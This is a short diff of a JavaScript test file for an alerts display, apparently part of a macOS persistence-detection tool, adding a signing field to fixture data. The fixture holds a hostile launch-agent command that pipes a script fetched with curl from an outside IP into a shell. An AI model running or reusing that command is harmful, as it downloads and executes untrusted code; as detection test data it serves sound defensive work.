@@ -153,6 +153,7 @@ describe('alerts show', () => {
       'the process names this path',
       'com.evil.agent',
       "/bin/sh -c 'curl -s http://198.51.100.7/x | sh'",
+      'evil-555, ad hoc',
       'RunAtLoad, WatchPaths',
       'shell-one-liner',
       'binary',
